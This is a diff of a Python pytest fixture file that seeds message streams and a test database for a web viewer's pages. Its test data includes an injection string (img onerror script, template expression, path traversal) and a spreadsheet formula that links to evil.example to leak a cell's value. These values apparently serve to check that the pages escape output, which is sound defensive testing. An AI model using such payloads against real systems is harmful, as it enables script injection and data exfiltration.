@@ -6,8 +6,9 @@ import zlib
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
-from typing import TYPE_CHECKING, Any, Final, LiteralString
-from urllib.parse import urlsplit, urlunsplit
+from random import Random
+from typing import Any, Final, LiteralString
+from urllib.parse import urlencode, urlsplit, urlunsplit
 
 import psycopg
 import pytest
@@ -34,12 +35,10 @@ from tests.support import (
     wait_until,
 )
 from tests.support.databases import administer, database_name, named
-from tests.support.groups import of_group, whole_group
+from tests.support.groups import group_id, of_group, whole_group
+from tests.support.place import Place
 from tests.support.super_streams import super_stream
 from tests.support.web import Asking, asking
-
-if TYPE_CHECKING:
-    from tests.web.conversations import Talks
 
 HOSTILE: Final = """<img src=x onerror=hacked()>"'`{{7*7}}/..\u202e%2f#?&東"""
 """Text that would do harm wherever it were taken for what it is not."""
@@ -173,36 +172,6 @@ def web_database_url(database_server_url: str, _migrated_template: str, _copying
         yield url
 
 
-@pytest.fixture(scope="session")
-def talks(
-    amqp_url: str, stream_url: str, database_server_url: str, _migrated_template: str, _copying: LiteralString
-) -> "Iterator[Talks]":
-    """Conversations, in a database of their own."""
-    from tests.web.conversations import talking
-
-    with (
-        web_database(database_server_url, _migrated_template, _copying) as url,
-        talking(amqp_url, stream_url, url) as talks,
-    ):
-        yield talks
-
-
-@pytest.fixture(scope="session")
-def lively(
-    amqp_url: str, stream_url: str, database_server_url: str, _migrated_template: str, _copying: LiteralString
-) -> Iterator[World]:
-    """As `world`, for what is recorded while a test looks on; `orders` is a stream that nobody records any more."""
-    orders = unique_name("quiet")
-    declare_stream(amqp_url, orders)
-    with web_database(database_server_url, _migrated_template, _copying) as url:
-        engine = make_engine(url)
-        publish_plain(amqp_url, orders, [(b"quiet", {})])
-        record(amqp_url, engine, orders, keys=KEYS)
-        engine.dispose()
-        yield World({"broker": amqp_url, "database": url, "stream_url": stream_url}, orders, "", 0, "")
-    delete_stream(amqp_url, orders)
-
-
 @pytest.fixture
 def reader_url(web_database_url: str) -> Iterator[str]:
     """The URL of a user in `relatum_reader`, for the database that is shared."""
@@ -286,9 +255,167 @@ def page(world: World) -> Iterator[Asking]:
 
 
 @pytest.fixture
-def masked(amqp_url: str, engine: sa.Engine, database_url: str, stream_name: str) -> str:
-    """A stream of three messages that have masked values, and one that has none; its database is the test's own."""
-    given = [(f"it is {SECRET}".encode(), MASKED_HEADERS)] * 3 + [(b"shown", {"shop": "north"})]
-    publish_plain(amqp_url, stream_name, given)
-    record(amqp_url, engine, stream_name, keys=MASKED_KEYS)
-    return stream_name
+def place(amqp_url: str, stream_url: str, database_url: str, engine: sa.Engine, stream_name: str) -> Place:
+    """A broker with a new stream, and a database."""
+    return Place(amqp_url, stream_url, database_url, engine, stream_name)
+
+
+@pytest.fixture
+def other_stream(amqp_url: str) -> Iterator[str]:
+    """The name of a second new stream."""
+    name = unique_name("other")
+    declare_stream(amqp_url, name)
+    yield name
+    delete_stream(amqp_url, name)
+
+
+def page_of(place: Place, **options: Any) -> WebOptions:
+    """The options of a page on the test's own database, which is patient."""
+    given = {"broker": place.amqp, "database": place.database, "stream_url": place.stream_url, "timeout_s": 60.0}
+    return WebOptions(**(given | options))
+
+
+@pytest.fixture
+def own(place: Place) -> Iterator[Asking]:
+    """That page, with its defaults."""
+    with asking(page_of(place)) as page:
+        yield page
+
+
+@pytest.fixture
+def masked(place: Place) -> str:
+    """The stream: three messages that have masked values, and one that has none."""
+    place.put(*[(f"it is {SECRET}".encode(), MASKED_HEADERS)] * 3, (b"shown", {"shop": "north"}))
+    place.record(keys=MASKED_KEYS)
+    return place.stream
+
+
+def views(world: World) -> dict[str, str]:
+    """A page of each kind, and of each answer that it can have."""
+    return {
+        "search-empty": "/",
+        "search": "/?key=order_id&value=late&complete=1",
+        "search-many": "/?key=host&value=busy&limit=30",
+        "search-absent": "/?key=order_id&value=nobody",
+        "search-refused": "/?key=nope&value=1",
+        "message-json": f"/message?stream={world.orders}&offset=0",
+        "message-text": f"/message?stream={world.orders}&offset=2",
+        "message-image": f"/message?stream={world.orders}&offset=4",
+        "message-hex": f"/message?stream={world.orders}&offset=6",
+        "message-missing": f"/message?stream={world.orders}&offset=999999",
+        "conversation-empty": "/trace",
+        "conversation-shared": f"/trace?stream={world.orders}&offset=0",
+        "conversation-stopped": "/trace?key=host&value=busy",
+        "conversation-refused": "/trace?key=nope&value=1",
+        "streams": "/streams",
+        "stream": f"/stream?stream={world.orders}",
+        "missing": "/missing?span=all",
+        "missing-swift": "/missing/expectation?name=swift&span=all",
+        "missing-answered": "/missing/expectation?name=answered+%3Cb%3E&span=all&limit=20",
+        "missing-patient": "/missing/expectation?name=patient&span=all&limit=20",
+        "missing-refused": "/missing/expectation?name=none",
+        "groups": "/groups",
+        "group": f"/groups/group?id={group_id(2)}",
+        "group-refused": "/groups/group?id=x",
+        "collectors": "/collectors",
+        "collector": "/collectors/collector?name=books",
+        "outcome": f"/collectors/outcome?{urlencode({'of_stream': world.payments, 'of_offset': 1})}",
+        "contexts": "/contexts",
+        "super-stream": f"/contexts/super-stream?name={world.placed}",
+        "live": "/live",
+        "live-refused": "/live?key=nope",
+        "not-found": "/nothing",
+    }
+
+
+# --- conversations ---------------------------------------------------------------------------------------
+
+TALK_KEYS: Final = [
+    KeyDefinition("order_id"),
+    KeyDefinition("card"),
+    KeyDefinition("host"),
+    KeyDefinition("id"),
+    KeyDefinition("cause", names="id"),
+    KeyDefinition("place", source=("header:shelf", "header:row")),
+]
+
+FORMULA: Final = """=HYPERLINK("http://evil.example/?x="&A1;"a")"""
+SECRET: Final = "4711-secret"
+
+HOUR_US: Final = 3_600_000_000
+
+COMMON: Final = 230
+"""Messages that have one host: more than are followed by default."""
+
+
+@dataclass(frozen=True)
+class Talks(World):
+    """Conversations of `orders`, `payments` and `mails`, besides what a world has.
+
+    At 0 of `orders` begins one: a payment named it 350 ms later, a mail named that after three hours; another order
+    shares its order_id, a hostile one, and its card. Behind them lie `COMMON` messages of one host, and larger
+    conversations: `order_id` is "talk-200", "talk-1000".
+    """
+
+    mails: str = ""
+
+
+def _said(at_us: int, **values: Any) -> tuple[bytes, dict[str, Any]]:
+    return b"said", values | {"relatum_time": TIME_US + at_us}
+
+
+def _large(streams: list[str], count: int, chance: Random) -> dict[str, list[Any]]:
+    """A conversation of so many messages: each after the first came from one of those before it."""
+    held: dict[str, list[Any]] = {name: [] for name in streams}
+    at_us = 0
+    for n in range(count):
+        at_us += chance.choice([900, 40_000, 700_000, 20 * HOUR_US if n % 50 == 49 else 3_000])
+        cause = {} if not n else {"cause": f"{count}-{chance.randrange(max(0, n - 9), n)}"}
+        message = _said(at_us, order_id=f"talk-{count}", id=f"{count}-{n}", card=f"card-{count}-{n // 7}", **cause)
+        held[chance.choice(streams)].append(message)
+    return held
+
+
+@pytest.fixture(scope="session")
+def talks(
+    amqp_url: str, stream_url: str, database_server_url: str, _migrated_template: str, _copying: LiteralString
+) -> Iterator[Talks]:
+    """Conversations, in a database of their own."""
+    with web_database(database_server_url, _migrated_template, _copying) as database_url:
+        yield from _talking(amqp_url, stream_url, database_url)
+
+
+def _talking(amqp_url: str, stream_url: str, database_url: str) -> Iterator[Talks]:
+    """Publish and record them."""
+    orders, payments, mails = unique_name("orders"), f'{unique_name("=pay")} "/<b>?#%41&ö', unique_name("mails")
+    # Larger ones are in streams of usual names: the weight of a page is that of its names, too.
+    large = [orders, mails, unique_name("refunds")]
+    streams = list(dict.fromkeys([orders, payments, *large]))
+    engine = make_engine(database_url)
+    order = {"order_id": f"o-{HOSTILE}", "card": SECRET}
+    held: dict[str, list[Any]] = {name: [] for name in streams} | {
+        orders: [
+            _said(0, id="a", shelf="a|b", row="7", **order),
+            _said(900_000, id="d", **order),
+            _said(0, order_id=FORMULA),
+            _said(1, order_id=FORMULA, cause="nobody"),
+            _said(5, large=1),
+        ],
+        payments: [_said(350_000, id="b", cause="a", **order), _said(2, order_id=FORMULA, shelf="a|b", row="7")],
+        mails: [_said(3 * HOUR_US, id="c", cause="b")],
+    }
+    held[orders] += [_said(n, host="busy") for n in range(COMMON)]
+    for count in (200, 1_000):
+        for name, messages in _large(large, count, Random(count)).items():
+            held[name] += messages
+    try:
+        for name in streams:
+            declare_stream(amqp_url, name)
+            publish_plain(amqp_url, name, held[name])
+        record(amqp_url, engine, *streams, keys=TALK_KEYS)
+        options = {"broker": amqp_url, "database": database_url, "stream_url": stream_url}
+        yield Talks(options, orders, payments, 0, placed="", mails=mails)
+    finally:
+        engine.dispose()
+        for name in streams:
+            delete_stream(amqp_url, name)
